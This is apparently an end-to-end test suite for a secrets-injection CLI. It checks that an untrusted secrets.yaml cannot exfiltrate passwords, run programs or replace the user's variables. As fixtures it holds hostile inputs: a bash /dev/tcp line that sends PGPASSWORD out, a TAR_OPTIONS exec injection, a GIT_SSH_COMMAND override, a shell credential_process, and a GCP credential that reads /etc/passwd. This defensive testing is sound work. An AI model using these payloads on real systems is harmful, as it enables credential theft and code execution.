/** A stranger's secrets.yaml, and a stranger's secrets in one's own store, with real programs: what they may not do. */
import { existsSync } from 'node:fs';
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { makePlace, type Outcome, type Place } from '../e2e/program.ts';
import { type Listener, startListener } from './listener.ts';

let listener: Listener;
let place: Place;
beforeAll(async () => {
  listener = await startListener();
});
afterAll(() => listener.stop());
beforeEach(async () => {
  place = await makePlace();
});
afterEach(() => place.remove());

const write = (yaml: object): Promise<void> =>
  writeFile(join(place.cwd, 'secrets.yaml'), JSON.stringify(yaml));
const refused = ({ stdout, stderr, code }: Outcome, exit: number, message: RegExp): void => {
  expect({ stdout, code }).toEqual({ stdout: '', code: exit });
  expect(stderr).toMatch(message);
  for (const line of stderr.trimEnd().split('\n')) expect(line).toMatch(/^secrets: /);
};

test('a text for PGHOST sends no password to another server', async () => {
  const port = new URL(listener.url).port;
  await write({ env: { PGHOST: '127.0.0.1', PGPORT: port } });
  const connect = `secrets exec -- bash -c 'exec 3<>/dev/tcp/$PGHOST/$PGPORT && echo "$PGPASSWORD" >&3'`;
  const before = listener.connections();
  refused(await place.sh(connect, { PGPASSWORD: 'canary' }), 125, /line 1: env\.PGHOST/);
  expect(listener.connections()).toBe(before);
  const shown = await place.sh('secrets trust --dry-run');
  expect(shown.stdout).toMatch(/env\.PGHOST: 127\.0\.0\.1[^]*env\.PGPORT/);
  await place.sh(`secrets trust --yes; ${connect}`, { PGPASSWORD: 'canary' });
  expect(listener.connections()).toBeGreaterThan(before);
});

test('a text for TAR_OPTIONS runs no program', async () => {
  await write({ env: { TAR_OPTIONS: '--checkpoint=1 --checkpoint-action=exec=./x.sh' } });
  await writeFile(join(place.cwd, 'x.sh'), '#!/bin/sh\n: > ran\n', { mode: 0o755 });
  const tar = 'head -c 100000 /dev/zero > big; secrets exec -- tar cf /dev/null big';
  refused(await place.sh(tar), 125, /env\.TAR_OPTIONS/);
  expect(existsSync(join(place.cwd, 'ran'))).toBe(false);
  await place.sh(`secrets trust --yes; ${tar}`);
  expect(existsSync(join(place.cwd, 'ran'))).toBe(true);
});

test('a text takes no variable’s place', async () => {
  await write({ env: { DEPLOY_URL: 'https://evil.example', LOG_LEVEL: 'debug' } });
  const mine = { DEPLOY_URL: 'https://mine.example', LOG_LEVEL: 'info' };
  const outcome = await place.sh('secrets exec -- env', mine);
  expect(outcome).toMatchObject({ stdout: '', code: 125 });
  expect(outcome.stderr).toMatch(/DEPLOY_URL[^]*LOG_LEVEL/);
  expect(
    (await place.sh('secrets exec --no-project --allow-empty -- printenv DEPLOY_URL', mine)).stdout,
  ).toBe('https://mine.example\n');
});

test('a secret takes no variable’s place, nor unsets one, before it is trusted', async () => {
  await place.sh('printf theirs | secrets put --quiet a');
  const mine = { API_KEY: 'mine' };
  await write({ env: { API_KEY: 'local://a' } });
  const show = 'secrets exec -- printenv API_KEY';
  refused(await place.sh(show, mine), 125, /env\.API_KEY.*takes the place of what you have set/);
  refused(await place.sh('secrets env', mine), 8, /env\.API_KEY/);
  expect((await place.sh(show)).stdout).toBe('theirs\n');
  // What a program of `exec` inherits from it is the same: nothing is replaced.
  expect((await place.sh(`secrets exec -- ${show}`)).stdout).toBe('theirs\n');
  await write({ env: { API_KEY: { ref: 'local://none', optional: true } } });
  refused(await place.sh(show, mine), 125, /env\.API_KEY/);
  expect((await place.sh(`secrets trust --yes; secrets exec -- sh -c 'echo "$API_KEY"'`, mine)).code).toBe(0);
  expect((await place.sh(`secrets exec -- sh -c 'echo "=$API_KEY="'`, mine)).stdout).toBe('==\n');
});

test('an address is no reference because a stranger’s store has the name of its scheme', async () => {
  await place.sh('printf theirs | secrets put --quiet host/x');
  const mine = { BROKER_URL: 'pulsar://host/x' };
  await write({ stores: { pulsar: { provider: 'local' } } });
  const show = 'secrets exec --resolve-env --allow-empty';
  refused(await place.sh(`${show} -- printenv BROKER_URL`, mine), 125, /BROKER_URL.*pulsar.*not trusted/);
  expect((await place.sh(`${show} --trust -- printenv BROKER_URL`, mine)).stdout).toBe('theirs\n');
  await mkdir(join(place.home, '.config/secrets'), { recursive: true });
  await writeFile(
    join(place.home, '.config/secrets/secrets.yaml'),
    'stores: { pulsar: { provider: local } }',
    {
      mode: 0o600,
    },
  );
  await write({});
  expect((await place.sh(`${show} -- printenv BROKER_URL`, mine)).stdout).toBe('theirs\n');
});

test('a name that nobody knows is none for a listing, but with the user’s prefix', async () => {
  await place.sh(`printf '{"host":"h","port":1,"username":"u","password":"p","dbname":"d","url":"x"}' | secrets put --quiet db
    printf '{"acme-launcher":"evil"}' | secrets put --quiet tool`);
  expect(
    (
      await place.sh(
        "secrets exec --from db --case upper -- sh -c 'echo $HOST $PORT $USERNAME $PASSWORD $DBNAME $URL'",
      )
    ).stdout,
  ).toBe('h 1 u p d x\n');
  refused(
    await place.sh('secrets exec --from tool -- true'),
    125,
    /would become ACME_LAUNCHER.*--allow ACME_LAUNCHER.*--prefix/,
  );
  refused(await place.sh('secrets exec --from tool --prefix X -- true'), 125, /would become XACME_LAUNCHER/);
  expect((await place.sh('secrets exec --from tool --prefix MY_ -- printenv MY_ACME_LAUNCHER')).stdout).toBe(
    'evil\n',
  );
});

test('a secret under a prefix neither steers a program nor replaces a variable', async () => {
  await place.sh(
    `for name in app/tar-options other/deploy-key; do printf evil | secrets put --quiet $name; done
     printf '{"git-ssh-command":"evil"}' | secrets put --quiet doc`,
  );
  refused(await place.sh('secrets exec --from local://app/ -- echo ran'), 125, /would become TAR_OPTIONS/);
  refused(await place.sh('secrets env --from local://app/'), 8, /would become TAR_OPTIONS/);
  refused(await place.sh('secrets exec --from doc -- echo ran'), 125, /would become GIT_SSH_COMMAND/);
  const mine = { DEPLOY_KEY: 'mine' };
  refused(
    await place.sh('secrets exec --from local://other/ -- echo ran', mine),
    125,
    /would replace the variable DEPLOY_KEY.*--allow DEPLOY_KEY.*--prefix/,
  );
  // Who means it says so: by name, or with a prefix. The same value replaces nothing.
  const shown = async (options: string, name: string, env = mine): Promise<string> =>
    (await place.sh(`secrets exec ${options} -- printenv ${name}`, env)).stdout;
  expect(await shown('--from local://other/ -e DEPLOY_KEY=local://other/deploy-key', 'DEPLOY_KEY')).toBe(
    'evil\n',
  );
  expect(await shown('--from local://other/ --prefix APP_', 'APP_DEPLOY_KEY')).toBe('evil\n');
  expect(await shown('--from local://other/', 'DEPLOY_KEY', { DEPLOY_KEY: 'evil' })).toBe('evil\n');
  expect(await shown('--from local://app/ -e TAR_OPTIONS=local://app/tar-options', 'TAR_OPTIONS')).toBe(
    'evil\n',
  );
  const steered = 'secrets exec --from local://app/ --prefix GIT_SSH_COMMAND -- true';
  refused(await place.sh(steered), 125, /would become GIT_SSH_COMMANDTAR_OPTIONS/);
  refused(
    await place.sh('secrets exec --from local://app/ --prefix "A B" -- true'),
    125,
    /not a valid variable name/,
  );
});

test('a store sends nothing to another account, by prefix, profile, mount or default', async () => {
  const env = {
    AWS_ENDPOINT_URL: listener.url,
    AWS_ACCESS_KEY_ID: 'a',
    AWS_SECRET_ACCESS_KEY: 'b',
    AWS_REGION: 'eu-west-1',
    VAULT_ADDR: listener.url,
    VAULT_TOKEN: 't',
  };
  await mkdir(join(place.home, '.aws'));
  await writeFile(
    join(place.home, '.aws/config'),
    `[profile prod-admin]\ncredential_process = sh -c ': > ${place.cwd}/ran'\n`,
  );
  const before = listener.connections();
  for (const [yaml, ref, line] of [
    [
      {
        stores: {
          team: { provider: 'aws', prefix: 'arn:aws:secretsmanager:eu-west-1:666666666666:secret:' },
        },
      },
      'team://payments/db',
      'stores.team.prefix',
    ],
    [{ stores: { team: { provider: 'aws', profile: 'prod-admin' } } }, 'team://a', 'stores.team.profile'],
    [{ stores: { vault: { provider: 'vault', mount: 'shared' } } }, 'vault://x', 'stores.vault'],
    [{ default: 'vault' }, 'x', 'default'],
  ] as const) {
    await write(yaml);
    refused(await place.sh(`secrets put ${ref} <<< value`, env), 8, new RegExp(`line 1: ${line}`));
    refused(await place.sh(`secrets exec -e A=${ref} -- true`, env), 125, new RegExp(`line 1: ${line}`));
  }
  refused(await place.sh('secrets list', env), 8, /line 1: default/);
  refused(await place.sh('secrets exec --from app/ -- true', env), 125, /line 1: default/);
  expect(listener.connections()).toBe(before);
  expect(existsSync(join(place.cwd, 'ran'))).toBe(false);
  // A default that is not trusted is no reason to take another.
  expect((await place.sh('secrets list local://', env)).code).toBe(0);
});

test('a reference that makes an ARN of a store’s prefix and a name reads from no other account', async () => {
  const env = {
    AWS_ENDPOINT_URL: listener.url,
    AWS_ACCESS_KEY_ID: 'a',
    AWS_SECRET_ACCESS_KEY: 'b',
    AWS_REGION: 'eu-west-1',
  };
  const rest = ':aws:secretsmanager:eu-west-1:666666666666:secret:x-AbCdEf';
  const p = (prefix: string): object => ({ p: { provider: 'aws', region: 'eu-west-1', prefix } });
  const before = listener.connections();
  for (const [ref, stores] of [
    [`aws://arn${rest}`, {}],
    [`aws://arn${rest.replaceAll(':', '%3A')}`, {}],
    [`aws://%61rn${rest}`, {}],
    [`p://rn${rest}`, p('a')],
    [`p://${rest}`, p('arn')],
    [`p://${rest}`.replaceAll(':', '%3A').replace('%3A', ':'), p('arn')],
  ] as const) {
    await write({ env: { DEPLOY_TOKEN: ref }, stores });
    refused(await place.sh('secrets exec -- true', env), 125, /aws allows names of/);
  }
  expect(listener.connections()).toBe(before);
});

test('a file that was trusted and is another now asks again', async () => {
  await write({ stores: { team: { provider: 'gcp', project: 'p', credentials: './gcp.json' } } });
  await writeFile(join(place.cwd, 'gcp.json'), '{}');
  expect((await place.sh('secrets trust --yes')).stdout).toMatch(
    /files that are trusted with it:\n.*  gcp\.json\n/,
  );
  expect((await place.sh('secrets get team://a')).code).toBe(4);
  await writeFile(
    join(place.cwd, 'gcp.json'),
    JSON.stringify({
      type: 'external_account',
      token_url: listener.url,
      credential_source: { file: '/etc/passwd' },
    }),
  );
  refused(await place.sh('secrets get team://a'), 8, /stores\.team\.credentials/);
  expect((await place.sh('secrets trust')).stdout).toMatch(/has changed since[^]*gcp\.json  \(new\)/);
  expect((await place.sh('secrets trust --list')).stdout).toMatch(/changed$/m);
});

test('a trusted relative path is the same store one folder down', async () => {
  await write({ stores: { team: { provider: 'local', path: './kept', key: { method: 'key-file' } } } });
  await place.sh('secrets trust --yes; printf one | secrets put --quiet team://a; mkdir -p sub/deep .git');
  expect(await place.sh('cd sub/deep; secrets get team://a; ls -A')).toEqual({
    stdout: 'one\n'.slice(0, 3),
    stderr: '',
    code: 0,
  });
});
